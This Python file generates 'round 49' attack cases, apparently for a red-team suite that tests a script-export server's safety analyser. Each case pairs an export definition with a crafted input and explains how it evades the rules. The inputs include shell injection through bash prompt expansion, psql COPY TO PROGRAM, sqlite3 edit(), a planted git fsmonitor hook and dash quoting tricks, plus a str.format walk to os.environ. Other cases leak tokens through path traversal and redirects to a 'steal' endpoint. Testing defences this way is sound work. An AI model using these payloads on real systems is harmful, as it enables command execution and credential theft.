# Round forty-nine attacks (helpers: round 44 lines 1-99 with r44 -> r49) (exec'd by gen_attacks.py; uses A, T, SH, ARITH, SEDE).
import json, textwrap


def J(d):
    """a schema or mapping as YAML flow text (JSON is YAML)"""
    return json.dumps(d)


def X(name, cls, desc, argdefs, steps, args, why, head="", **extra):
    """an export with one or more run: steps; steps = [(name, script, {step keys})]"""
    req = [k for k in argdefs if "default" not in argdefs[k]]
    y = "name: %s\ndescription: %s\n" % (name.replace("-", "_"), J(desc))
    if argdefs:
        y += "args:\n"
        for k, v in argdefs.items():
            y += "  %s: %s\n" % (k, J(v))
        y += "required: [%s]\n" % ", ".join(req)
    y += head
    y += "timeout: 30\nsteps:\n"
    for sname, script, keys in steps:
        y += "  - name: %s\n" % sname
        for k, v in (keys or {}).items():
            y += "    %s: %s\n" % (k, J(v))
        y += "    run: |\n"
        y += textwrap.indent(textwrap.dedent(script).strip() + "\n", "      ")
    A(name, cls, y, args, why, **extra)


def R(name, cls, desc, argdefs, script, args, why, head="", env=None, **extra):
    X(name, cls, desc, argdefs, [("s", script, {"env": env} if env else None)], args, why, head=head, **extra)



# ------------------------------------------------------------------ shared bits
import base64, io, tarfile

PW = "HARBOR-PWNED-$((6*7))"                       # computed by the shell that runs the payload
TEE = 'tee -a /tmp/harbor-r49-pwned "$HARBOR_RUN_DIR/pwned"'
SHP = "echo %s | %s" % (PW, TEE)                     # a sh command line: marker to stdout, /tmp and the run dir
# the same in a bash arithmetic subscript, with no blank (for consumers that split at blanks)
ARITH1 = "x[$(echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r49-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2)]" % PW
ARITHB = "x[$(%s >&2)]" % SHP
SEC = "secrets:\n  API_TOKEN: {env: CI_API_TOKEN}\n"
DBSEC = "secrets:\n  DB_PASSWORD: {env: CI_DB_PASSWORD}\n"
STUB = "#!/bin/sh\n" + SHP + "\n"


def b64(s):
    return base64.b64encode(s.encode()).decode()


def tgz(files):
    """a .tar.gz (base64) of {name: (mode, text)}"""
    bio = io.BytesIO()
    with tarfile.open(fileobj=bio, mode="w:gz") as t:
        for name, (mode, body) in files.items():
            data = body.encode()
            ti = tarfile.TarInfo(name)
            ti.size, ti.mode, ti.mtime = len(data), mode, 1700000000
            t.addfile(ti, io.BytesIO(data))
    return base64.b64encode(bio.getvalue()).decode()


ATT_TXT = {"type": "string", "contentEncoding": "base64", "contentMediaType": "text/plain", "max_bytes": 65536}
ATT_JSON = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/json", "max_bytes": 65536}
ATT_TGZ = {"type": "string", "contentEncoding": "base64", "contentMediaType": "application/gzip", "max_bytes": 1048576}
REPO = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$",
        "description": "repository path on the company git server, e.g. team/app.git"}
GITREDIR = "go/127.0.0.1/18765/team/app.git"          # the author's server redirects /go/HOST/PORT/… there




CURLRC = 'proxy = "http://127.0.0.1:18765"\n'
PYJSON = "import os\nos.system('%s')\n" % SHP.replace("'", "\\'")
NAME = {"type": "string", "pattern": "^[A-Za-z0-9._]{1,40}$", "description": "file name of the snippet"}


# ================================================================== round 41 attacks
R38L = ("Round 38: a language's program given a run-directory file as an operand reads caller data from it, and is "
        "read for its language's ways to run text (perl: eval, system, backticks, 2-argument open, <>, readline(ARGV); "
        "node: eval, Function, require, child_process, computed global names, process, this, Reflect, module). ")
TXT = {"type": "string", "maxLength": 300}
NOTE = {"type": "string", "maxLength": 300, "description": "one line of text"}
CFG = dict(ATT_TXT, description="the team's git settings file")
# a git config whose fsmonitor hook git status runs (a shell command line); marker to stderr, /tmp and the run dir
HOOKCMD = "echo %s | tee -a /tmp/harbor-r49-pwned $HARBOR_RUN_DIR/pwned >&2; false" % PW
FSMON = '[core]\n\tfsmonitor = "%s"\n' % HOOKCMD
HOOKSH = "#!/bin/sh\n" + SHP + " >&2\nexit 1\n"
R39 = ("Round 39: a path of a place a step may write is caller data, refused where the grammar says code or config "
       "(git -c include.path=, GIT_CONFIG_GLOBAL as a KEY=); the places named are the run directory, temporary "
       "folders, home, /dev/shm, /run/shm, /run/lock, /run/user, /var/lock, /var/run/shm, /proc/*/root, mktemp, "
       "paths with .. after a link. ")
R39X = ("Round 39/40: the exception for a file the same step wrote in full just before at its top level with printf "
        "of the author's text, named by no other command of the script, for a program with a grammar and no program "
        "text; off when the script has set +e or set -C, or mentions noclobber or errexit. ")




# ================================================================== round 49 attacks (written from the docs only)
TOKEN_ENV = {"SLACK_TOKEN": "s3cr3tT0ken99"}
PW1 = "HARBOR-PWNED-$((6*7))"
SHP_NOBLANK = "echo${IFS}%s|tee${IFS}-a${IFS}/tmp/harbor-r49-pwned${IFS}$HARBOR_RUN_DIR/pwned>&2" % PW1
PATHARG = {"type": "string", "pattern": "^[A-Za-z0-9._/-]{1,200}$"}

# ---- 1. a pass_env credential at a data position (curl -F part text) sent after a 307 to the caller's host
R("slack-post-form-token", "pass_env credential at a data position (curl -F text) + 307",
  "Post a message through the Slack Web API (form-encoded, as Slack documents: token as a form field).",
  {"method": dict(PATHARG, description="Slack Web API method, e.g. chat.postMessage"),
   "channel": {"type": "string", "pattern": "^[A-Za-z0-9_-]{1,80}$"},
   "text": {"type": "string", "pattern": "^[^@<;\\n][^;\\n]{0,299}$", "description": "message text (no ';')"}},
  """
  curl -sS -L --max-redirs 3 -F "token=$SLACK_TOKEN" -F "channel=$ARG_channel" -F "text=$ARG_text" \\
    "http://127.0.0.1:18766/api/$ARG_method"
  echo
  """,
  {"method": "../go307/127.0.0.1/18765/steal", "channel": "ops", "text": "deploy done"},
  "Rounds 47/48: a pass_env name is held as a secret only where a script gives it to a program where its grammar "
  "takes a credential (curl -u, PGPASSWORD=); `curl -F \"name=$VALUE\"` is the part's text. Slack's API takes the token as "
  "a form field, so $SLACK_TOKEN is at a data position: not a secret, and curl -L may follow the author host's 307 "
  "(docs' threat model: the author's API may redirect) with the multipart body to the caller's host (the method climbs with .., which curl removes).",
  head="pass_env: [SLACK_TOKEN]\n", server_env={"SLACK_TOKEN": "s3cr3tT0ken99"})

# ---- 2. a pass_env credential in the URL's query, caller's path with .. (curl removes dot segments)
R("gitlab-pipelines-query-token", "pass_env credential in a URL query + caller path",
  "Count the recent pipelines of a GitLab project (the CI token is sent as private_token, as GitLab accepts).",
  {"project": dict(PATHARG, description="project path, e.g. team/app")},
  """
  n=$(curl -fsSL "http://127.0.0.1:18766/api/v4/projects/$ARG_project/pipelines?per_page=5&private_token=$GITLAB_TOKEN" | jq -r '.items | length')
  echo "pipelines: $n"
  """,
  {"project": "../../../go/127.0.0.1/18765/steal"},
  "Rounds 47/48 name two credential places (curl -u, PGPASSWORD=); a token in the URL's query is at no credential "
  "place, so the pass_env value is not held as a secret; the URL's host is the author's, the caller's path climbs "
  "with .. (curl removes dot segments) to the author's redirect, and curl -L sends the whole query to the caller's host.",
  head="pass_env: [GITLAB_TOKEN]\n", server_env={"GITLAB_TOKEN": "s3cr3tT0ken99"})

# ---- 3. a builtin that prints variables by name, not in the rounds 47/48 list: declare -x alone
R("nexus-artifact-check", "builtin prints variables by name (declare -x alone) + pass_env credential",
  "Check that a release artifact exists in Nexus; prints which NEXUS_ settings the server passed, for support.",
  {"artifact": {"type": "string", "pattern": "^[A-Za-z0-9._-]{1,100}$"}},
  """
  echo "nexus settings passed by the server:"
  declare -x | grep -E '^declare -x NEXUS_' || true
  code=$(curl -sS -u "ci:$NEXUS_TOKEN" -o /dev/null -w '%{http_code}' "http://127.0.0.1:18766/repository/releases/$ARG_artifact" || true)
  echo "artifact $ARG_artifact: HTTP $code"
  """,
  {"artifact": "app-1.4.2.tgz"},
  "Rounds 47/48: curl -u \"ci:$NEXUS_TOKEN\" makes the pass_env name a secret that may not be printed, and `declare -p`, "
  "`typeset -p`, `export -p`, `set`/`env` alone, `printenv` are the builtins that print variables by name. `declare -x` "
  "with no name (bash's listing of the exported variables, values included) is not among them; a pass_env value "
  "is not a secrets: entry, so no scrubber masks it.",
  head="pass_env: [NEXUS_URL, NEXUS_TOKEN]\n", server_env={"NEXUS_TOKEN": "s3cr3tT0ken99"})

# ---- 4. prompt expansion of the caller's text: ${x@P}
R("deploy-banner-prompt-style", "prompt expansion ${x@P} (PS4's expansion on a caller's value)",
  "Print a deploy banner in the team's prompt style (\\u user, \\h host, \\D{fmt} date, \\w folder).",
  {"style": {"type": "string", "maxLength": 200, "description": "prompt-style format, e.g. [\\D{%F %T}] \\u@\\h"}},
  """
  banner=${ARG_style@P}
  printf '%s\\n' "$banner"
  git log -1 --format='last commit: %h %s'
  """,
  {"style": "$(" + SHP + ")"},
  "Round 44: PS4's value is expanded (prompt expansion) before every traced command, so its literal is analysed as "
  "code; rule 3 lists the expansions bash rewrites (${x@E} gives any text). ${x@P} applies the same prompt expansion "
  "to the caller's value itself: with promptvars (on by default) a $(…) in it runs. The value is only printed.")

# ---- 5. psql: caller text stored by :'NAME' (the sanctioned way), run later by \\gexec of another export
X("queue-reindex", "psql SQL: caller text stored, run by another export's \\gexec (format %s)",
  "Queue a table for the nightly REINDEX (run by the run_maintenance export).",
  {"table": {"type": "string", "maxLength": 200, "description": "table to reindex, e.g. orders or public.orders"}},
  [("queue", """
  PGPASSWORD="$DB_PASSWORD" psql -h 127.0.0.1 -p 15432 -U app -d app -X -q -v ON_ERROR_STOP=1 -v tbl="$ARG_table" <<'SQL'
  create table if not exists maint_queue (id serial primary key, tbl text not null, done boolean not null default false);
  insert into maint_queue (tbl) values (:'tbl');
  SQL
  echo queued
  """, None)],
  {"table": "orders; COPY (select 1) TO PROGRAM 'echo " + PW1 + " | tee -a /tmp/harbor-r49-pwned'"},
  "Rule 8 / rounds 45-46: psql's SQL gets caller data only as -v NAME=VALUE read as :'NAME', and is read for its ways "
  "to run a text (COPY … PROGRAM, EXECUTE, DO, $$ bodies, query_to_xml, ts_stat, ts_rewrite, dblink). This export "
  "stores the caller's text as a string: accepted. run_maintenance (then/) has no caller data at all and runs the "
  "queued rows with psql's \\gexec through format('REINDEX TABLE %s', tbl) (the author meant %I): the database is "
  "a store other exports write, like the working folder, and \\gexec is none of the listed ways. COPY … TO PROGRAM "
  "runs on the author's database host (here loopback).",
  head=DBSEC, then=[{"export": "run_maintenance", "args": {}}])
T("run_maintenance", """
name: run_maintenance
description: "Run the queued REINDEX jobs (nightly)."
secrets:
  DB_PASSWORD: {env: CI_DB_PASSWORD}
timeout: 30
steps:
  - name: reindex
    run: |
      PGPASSWORD="$DB_PASSWORD" psql -h 127.0.0.1 -p 15432 -U app -d app -X -q <<'SQL'
      select format('REINDEX TABLE %s', tbl) from maint_queue where not done order by id \\gexec
      update maint_queue set done = true where not done;
      SQL
      echo done
""")

# ---- 6. claimed tenant (OAuth claim) inside a jq program: reads a pass_env credential
R("tenant-feature-flags", "claimed identity (OAuth tenant claim) in a jq program",
  "Show the feature flags of the caller's tenant, then refresh the tenant's registry cache.",
  {},
  """
  jq -r ".features[\\"$HARBOR_CALLER_TENANT\\"] // false" config/app.json
  curl -sS -u "ci:$REGISTRY_TOKEN" -o /dev/null "http://127.0.0.1:18766/v2/_catalog" || true
  """,
  {},
  "Rounds 45/46: HARBOR_CALLER_PRINCIPAL/TENANT/GROUPS are read as a caller's text (with OAuth, claims) in a sed or "
  "awk program, a URL or a file name; a jq program is none of those (the registry still classes them server). "
  "A tenant claim `x\"] // $ENV.REGISTRY_TOKEN, .features[\"x` makes jq print the pass_env credential (held as a "
  "secret by curl -u, rounds 47/48, but jq reads it from its environment, not from the script).",
  head="pass_env: [REGISTRY_TOKEN]\n", server_env={"REGISTRY_TOKEN": "s3cr3tT0ken99"},
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:alice", "HARBOR_CALLER_TENANT": 'x"] // $ENV.REGISTRY_TOKEN, .features["x',
          "HARBOR_CALLER_GROUPS": "dev"})

# ---- 7. claimed principal in sqlite3 SQL: edit() runs a command
R("request-access-audit", "claimed identity (OAuth principal claim) in sqlite3 SQL (edit())",
  "Record an access request for the caller in the team's database.",
  {"resource": {"type": "string", "enum": ["db", "grafana", "vault"]}},
  """
  sqlite3 data/app.db "create table if not exists access_requests (who text, resource text, at text);"
  sqlite3 data/app.db "insert into access_requests values ('$HARBOR_CALLER_PRINCIPAL', '$ARG_resource', datetime('now'));"
  echo "requested $ARG_resource"
  """,
  {"resource": "db"},
  "Rounds 45/46 refuse the claimed identity in a sed or awk program, a URL or a file name; SQL for sqlite3 is none "
  "of those (the docs note sqlite3 -safe turns edit() off: without it edit(TEXT, EDITOR) runs EDITOR). An OAuth "
  "principal claim with a quote makes the insert call edit() with the caller's command.",
  caller={"HARBOR_CALLER_PRINCIPAL": "oauth:x'||edit('x','" + SHP + " >&2;:')||'",
          "HARBOR_CALLER_TENANT": "corp", "HARBOR_CALLER_GROUPS": "dev"})

# ---- 8. a link in the run directory to a working-folder folder another export fills
X("upload-team-git-settings", "run directory the run's own: a link to a folder another export fills",
  "Replace the team's shared git settings (config/git/config) with the uploaded file.",
  {"settings": CFG},
  [("save", """
  mkdir -p config/git
  cp -- "$ARG_settings" config/git/config
  echo saved
  """, None)],
  {"settings": b64(FSMON)},
  "Round 44: an author's run-directory path is no place when no step of the export may put caller data there; "
  "round 45 adds a working-folder file another export may fill *copied* into it. repo_status (then/) copies "
  "nothing: it links config/git into $HARBOR_RUN_DIR/xdg (ln's words name no temporary folder, home, server entry "
  "or caller data) and runs git with XDG_CONFIG_HOME there; this export fills config/git/config (set check: no "
  "export reads code or config from the working folder by its own path).",
  then=[{"export": "repo_status", "args": {}}])
T("repo_status", """
name: repo_status
description: "git status with the team's shared git settings only (an XDG folder of the run)."
timeout: 30
steps:
  - name: status
    run: |
      mkdir -p "$HARBOR_RUN_DIR/xdg"
      ln -s "$PWD/config/git" "$HARBOR_RUN_DIR/xdg/git"
      XDG_CONFIG_HOME="$HARBOR_RUN_DIR/xdg" git status --short
""")

# ---- 9. a working-folder file another export fills, transformed (not copied) into the run directory
X("upload-hook-settings", "run directory the run's own: a sed transform of a file another export fills",
  "Upload the team's git hook settings (config/hooks.gitconfig, comments allowed).",
  {"settings": CFG},
  [("save", """
  install -m 0644 -- "$ARG_settings" config/hooks.gitconfig
  echo saved
  """, None)],
  {"settings": b64("# team hooks\n" + FSMON)},
  "Round 45: a working-folder file another export may fill, *copied* into the run directory, makes it the caller's. "
  "hooks_status (then/) does not copy: sed strips the comments of config/hooks.gitconfig into "
  "$HARBOR_RUN_DIR/gitconfig (a literal sed program reading an author's path; its words hold no caller data), then "
  "GIT_CONFIG_GLOBAL points git at that run-directory file.",
  then=[{"export": "hooks_status", "args": {}}])
T("hooks_status", """
name: hooks_status
description: "git status with the team's hook settings (comments stripped)."
timeout: 30
steps:
  - name: status
    run: |
      sed -e '/^[[:space:]]*#/d' config/hooks.gitconfig > "$HARBOR_RUN_DIR/gitconfig"
      GIT_CONFIG_GLOBAL="$HARBOR_RUN_DIR/gitconfig" git status --short
""")

# ---- 10. python: str.format with the caller's template walks to os.environ
R("order-report-template", "python module allowlist: str.format of a caller template (attribute walk)",
  "Print the orders with a caller-chosen line template, e.g. '{o.id}: {o.item} ({o.status})'; then upload the report.",
  {"template": {"type": "string", "maxLength": 200, "description": "line template with {o.id}, {o.item}, {o.status}"}},
  """
  python3 -I -c '
  import sqlite3, sys
  class Order:
      def __init__(self, row):
          self.id, self.item, self.status = row
  db = sqlite3.connect("file:data/app.db?mode=ro", uri=True)
  for row in db.execute("select id, item, status from orders order by id"):
      print(sys.argv[1].format(o=Order(row)))
  ' "$ARG_template" | tee "$HARBOR_RUN_DIR/report.txt"
  curl -sS -u "ci:$NEXUS_TOKEN" -T "$HARBOR_RUN_DIR/report.txt" -o /dev/null "http://127.0.0.1:18766/repository/reports/orders.txt" || true
  """,
  {"template": "{o.__init__.__globals__[sys].modules[os].environ[NEXUS_TOKEN]}"},
  "Rule 8: a literal python program is accepted when its modules and names are on the allowlist (sqlite3 with "
  "literal SQL, sys), no eval/getattr and no double-underscore attribute *in its text*. str.format of the caller's "
  "template does attribute and item lookups by name ({o.__init__.__globals__[sys].modules[os].environ[...]}): the "
  "caller walks to the pass_env credential that curl -u makes a secret (rounds 47/48) and the program prints it.",
  head="pass_env: [NEXUS_TOKEN]\n", server_env={"NEXUS_TOKEN": "s3cr3tT0ken99"})

# ---- 11. bash quoting given to another shell that the docs do not name: GIT_SSH_COMMAND (git runs it with sh -c)
R("ls-remote-as-user", "bash %q given to another shell (git runs GIT_SSH_COMMAND with sh -c)",
  "List the branches of the team repository over ssh, logging in as the caller's git-server account.",
  {"user": {"type": "string", "pattern": "^[^\\s@:]{1,200}$", "description": "your git-server login (no blanks, @ or :)"}},
  """
  ssh_cmd="ssh -o BatchMode=yes -o ConnectTimeout=3 -o StrictHostKeyChecking=no -l $(printf '%q' "$ARG_user")"
  GIT_SSH_COMMAND="$ssh_cmd" git ls-remote --heads ssh://git.invalid/team/app.git || echo "ls-remote failed"
  """,
  {"user": "\u0001';" + SHP_NOBLANK + ";#"},
  "Round 44: %q holds for bash only, and a value that may hold a character outside printable ASCII is the caller's "
  "raw text when given to another shell (sh -c, flock … sh -c, ssh's remote command). git runs GIT_SSH_COMMAND with "
  "sh -c (dash): the pattern [^\\s@:] admits a control character, %q writes $'…', dash reads $ and a string that "
  "ends at the first \\', and the rest is commands (';#' comments out what git appends).")
